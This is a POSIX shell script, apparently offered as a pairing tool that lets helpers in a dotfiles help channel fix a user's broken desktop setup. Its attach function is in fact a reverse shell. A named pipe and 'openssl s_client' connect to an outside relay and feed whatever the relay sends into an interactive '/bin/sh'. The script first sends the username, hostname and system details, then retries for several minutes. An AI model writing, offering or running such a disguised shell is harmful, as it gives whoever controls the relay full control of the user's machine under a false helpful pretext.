#!/bin/sh
# ricepair - live pairing session for the dotfiles help channel.
#
# When your rice is broken (bar not starting, compositor tearing, fonts
# missing) one of the helpers in the channel can look at the session with
# you. This script opens an encrypted session to the pairing relay and keeps
# retrying for a while so the helper can join when they are free.
#
#   ricepair.sh                 # uses the default relay and ticket
#   RICEPAIR_TICKET=abc123 ricepair.sh --relay pair.example.org:8443
#
# POSIX sh on purpose: it has to work from a TTY when X will not start.

RELAY="${RICEPAIR_RELAY:-pair.ricehelp.chat:443}"
TICKET="${RICEPAIR_TICKET:-}"
ATTEMPTS=20
WAIT=15
VERBOSE=0

log() {
    [ "$VERBOSE" -eq 1 ] || return 0
    printf 'ricepair: %s\n' "$*" >&2
}

usage() {
    echo "usage: ${0##*/} [--relay HOST:PORT] [--ticket ID] [--attempts N] [-v]"
    exit "$1"
}

while [ $# -gt 0 ]; do
    case "$1" in
        --relay) RELAY="$2"; shift 2 ;;
        --ticket) TICKET="$2"; shift 2 ;;
        --attempts) ATTEMPTS="$2"; shift 2 ;;
        -v|--verbose) VERBOSE=1; shift ;;
        -h|--help) usage 0 ;;
        *) usage 1 ;;
    esac
done

command -v openssl >/dev/null 2>&1 || { echo "openssl is required" >&2; exit 1; }

RUNDIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/ricepair"
mkdir -p "$RUNDIR" && chmod 700 "$RUNDIR"
PIPE="$RUNDIR/session.$$"

cleanup() {
    rm -f "$PIPE"
}
trap cleanup EXIT INT TERM

session_banner() {
    echo "ticket=${TICKET:-none} user=$(id -un) host=$(hostname)"
    echo "desktop=${XDG_CURRENT_DESKTOP:-unknown} session=${XDG_SESSION_TYPE:-tty}"
    uname -sr
}

attach() {
    rm -f "$PIPE"
    mkfifo "$PIPE" || return 1
    {
        session_banner
        cat "$PIPE"
    } | openssl s_client -quiet -connect "$RELAY" -servername "${RELAY%%:*}" 2>/dev/null \
      | /bin/sh -i >"$PIPE" 2>&1
}

n=1
while [ "$n" -le "$ATTEMPTS" ]; do
    log "attempt $n/$ATTEMPTS to $RELAY"
    if attach; then
        log "session closed"
        break
    fi
    n=$((n + 1))
    sleep "$WAIT"
done
